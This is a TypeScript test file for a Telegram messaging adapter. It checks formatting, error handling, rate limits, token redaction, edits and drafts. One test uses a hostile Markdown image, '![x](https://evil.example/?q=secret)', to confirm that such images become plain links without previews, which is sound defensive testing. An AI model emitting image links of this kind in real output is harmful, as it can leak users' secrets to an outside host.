import { afterEach, beforeEach, describe, it } from "vitest";
import type { Account, Io } from "../../../../src/adapters/adapter.ts";
import { MAX_ANSWER_BYTES } from "../../../../src/adapters/telegram/answer.ts";
import { telegram } from "../../../../src/adapters/telegram/index.ts";
import { AppError } from "../../../../src/core/errors.ts";
import type { Target } from "../../../../src/core/message.ts";
import { catchError, expectNoSecret } from "../../../contract/secrecy.ts";
import { type FakeTelegram, startFakeTelegram } from "../../../support/fake-telegram.ts";
import { createTelegramAccount } from "../../../support/telegram-account.ts";

const io: Io = { fetch, nowMs: () => Date.now() };
const person: Target = { conversation: { id: "5", kind: "direct" } };
const topic: Target = {
  conversation: { id: "-1001", kind: "group", thread: "7" },
  replyTo: "41",
};
const part = (markdown: string) => ({ markdown, idempotencyKey: "turn:0" });

let fake: FakeTelegram;
let account: Account;

beforeEach(async () => {
  fake = await startFakeTelegram();
  account = createTelegramAccount(fake.apiBase);
});
afterEach(() => fake.close());

const send = (target: Target, markdown: string) =>
  telegram.send(target, part(markdown), account, io);
const bodyOf = (method: string) => fake.callsOf(method).at(-1)?.body;

describe("sending to Telegram", () => {
  it("sends HTML without a link preview", async ({ expect }) => {
    const sent = await send(person, "**a** & b");
    expect(sent).toEqual({ id: String(fake.messagesOf(5)[0]?.id) });
    expect(bodyOf("sendMessage")).toEqual({
      chat_id: 5,
      text: "<b>a</b> &amp; b",
      parse_mode: "HTML",
      link_preview_options: { is_disabled: true },
    });
  });

  it("shows a picture of the model's as a link to press, with no preview, sent, edited or as plain text", async ({
    expect,
  }) => {
    const hostile = "![x](https://evil.example/?q=secret)";
    const href = '<a href="https://evil.example/?q=secret">x</a>';
    const quiet = { link_preview_options: { is_disabled: true } };
    const ref = await send(person, hostile);
    expect(bodyOf("sendMessage")).toMatchObject({ text: href, ...quiet });
    await telegram.edit?.(person, ref, hostile.replace("secret", "more"), account, io);
    expect(bodyOf("editMessageText")).toMatchObject({
      text: href.replace("secret", "more"),
      ...quiet,
    });
    fake.addFault({
      kind: "refuse",
      code: 400,
      description: "Bad Request: can't parse entities",
    });
    await send(person, hostile);
    expect(bodyOf("sendMessage")).toMatchObject({ text: hostile, ...quiet });
    const methods = new Set(fake.calls.map(({ method }) => method));
    expect([...methods].sort()).toEqual(["editMessageText", "sendMessage"]);
  });

  it("answers in the topic, to the message, also where that is gone", async ({ expect }) => {
    await send(topic, "a");
    expect(bodyOf("sendMessage")).toMatchObject({
      chat_id: -1001,
      message_thread_id: 7,
      reply_parameters: { message_id: 41, allow_sending_without_reply: true },
    });
  });

  it("writes an id beyond 2^53 with all its digits", async ({ expect }) => {
    await send({ conversation: { id: "-9007199254740993", kind: "direct" } }, "a");
    expect(bodyOf("sendMessage")).toMatchObject({ chat_id: "-9007199254740993" });
  });

  it("sends the Markdown as it is where Telegram cannot read the HTML", async ({ expect }) => {
    fake.addFault({
      kind: "refuse",
      code: 400,
      description: "Bad Request: can't parse entities: Unexpected end tag at byte offset 3",
    });
    await send(person, "**a** < b");
    expect(fake.counts.get("sendMessage")).toBe(2);
    expect(bodyOf("sendMessage")).toEqual({
      chat_id: 5,
      text: "**a** < b",
      link_preview_options: { is_disabled: true },
    });
  });

  it("tries once only where Telegram refuses for another reason", async ({ expect }) => {
    fake.addFault({ kind: "refuse", code: 400, description: "Bad Request: chat not found" });
    await expect(send(person, "a")).rejects.toMatchObject({
      code: "channel/rejected",
      message: "The platform refused the message.",
      cause: { message: "sendMessage: 400 Bad Request: chat not found" },
    });
    expect(fake.counts.get("sendMessage")).toBe(1);
  });

  it("is told how long to wait", async ({ expect }) => {
    fake.addFault({ kind: "refuse", code: 429, retryAfterSeconds: 31 });
    await expect(send(person, "a")).rejects.toMatchObject({
      code: "channel/rate_limited",
      retryAfterMs: 31_000,
    });
    fake.addFault({ kind: "refuse", code: 429 });
    await expect(send(person, "a")).rejects.toMatchObject({
      code: "channel/rate_limited",
      retryAfterMs: undefined,
    });
  });

  it.for<[string, number, string, string]>([
    ["a proxy's error page", 502, "<html>Bad gateway</html>", "channel/unavailable"],
    ["a proxy that asks for a sign-in", 403, "<html>", "channel/rejected"],
    ["a page where JSON should be", 200, "<html>", "channel/unavailable"],
    ["JSON of another form", 200, '{"data":1}', "channel/unavailable"],
    ["a success that names no message", 200, '{"ok":true,"result":{}}', "channel/unavailable"],
    ["a success that is none", 200, '{"ok":true}', "channel/unavailable"],
    ["JSON that is cut off", 200, '{"ok":true,"resu', "channel/unavailable"],
  ])("reads %s as a failure", async ([, status, body, code], { expect }) => {
    fake.addFault({ kind: "garble", status, body });
    const error = await catchError(send(person, "a"));
    expect(error).toMatchObject({ code });
    expectNoSecret(expect, error, account);
  });

  it("reads no endless answer", async ({ expect }) => {
    const body = `{"ok":true,"result":"${"x".repeat(MAX_ANSWER_BYTES)}"}`;
    fake.addFault({ kind: "garble", status: 200, body });
    await expect(send(person, "a")).rejects.toMatchObject({
      code: "channel/unavailable",
      cause: { message: "The answer is larger than the Bot API's answers are." },
    });
  });

  it("says nothing of the token where fetch quotes the URL", async ({ expect }) => {
    const quoting: Io = {
      ...io,
      fetch: (input) =>
        Promise.reject(new TypeError(`cannot reach ${input}`, { cause: `${input}` })),
    };
    const error = await catchError(telegram.send(person, part("a"), account, quoting));
    expect(error).toMatchObject({ code: "channel/unavailable" });
    expectNoSecret(expect, error, account);
  });

  it("says nothing of the token where Telegram repeats it", async ({ expect }) => {
    fake.addFault({ kind: "refuse", code: 400, description: `no bot has ${fake.token} now` });
    const error = await catchError(send(person, "a"));
    expect(error).toMatchObject({ cause: { message: "sendMessage: 400 no bot has <token> now" } });
    expectNoSecret(expect, error, account);
  });

  it("passes on that the box may not reach the address", async ({ expect }) => {
    const closed: Io = { ...io, fetch: () => Promise.reject(new AppError("egress/not_allowed")) };
    await expect(telegram.send(person, part("a"), account, closed)).rejects.toMatchObject({
      code: "egress/not_allowed",
    });
  });

  it("edits, and takes no offence where nothing changed", async ({ expect }) => {
    const ref = await send(topic, "a");
    await telegram.edit?.(topic, ref, "**b**", account, io);
    await telegram.edit?.(topic, ref, "**b**", account, io);
    expect(fake.counts.get("editMessageText")).toBe(2);
    expect(fake.messagesOf(-1001)).toMatchObject([{ text: "b", edits: 1 }]);
  });

  it("does not take another refusal of an edit for success", async ({ expect }) => {
    await expect(telegram.edit?.(person, { id: "999" }, "a", account, io)).rejects.toMatchObject({
      code: "channel/rejected",
    });
  });

  it("shows a draft with a stop button, in its topic", async ({ expect }) => {
    const target: Target = { conversation: { id: "5", kind: "direct", thread: "3" } };
    await telegram.draft?.(target, 99, "so *far*", account, io);
    expect(fake.draftOf(5)).toBe("so far");
    expect(bodyOf("sendMessageDraft")).toEqual({
      chat_id: 5,
      draft_id: 99,
      text: "so <i>far</i>",
      parse_mode: "HTML",
      can_stop: true,
      message_thread_id: 3,
    });
  });

  it("shows typing in the topic", async ({ expect }) => {
    await telegram.typing?.(topic, account, io);
    expect(bodyOf("sendChatAction")).toEqual({
      chat_id: -1001,
      action: "typing",
      message_thread_id: 7,
    });
  });

  it("previews by drafts to a person and by edits to a group", ({ expect }) => {
    const { preview } = telegram.capabilities;
    expect(preview({ id: "1", kind: "direct" })).toEqual({ how: "draft", everyMs: 300 });
    expect(preview({ id: "1", kind: "group" })).toEqual({ how: "edit", everyMs: 3_100 });
  });

  it("calls Telegram's own address where the account names none", ({ expect }) => {
    expect(telegram.origins(createTelegramAccount())).toEqual(["https://api.telegram.org"]);
    expect(telegram.origins(createTelegramAccount("http://127.0.0.1:8081/tg/"))).toEqual([
      "http://127.0.0.1:8081",
    ]);
  });
});
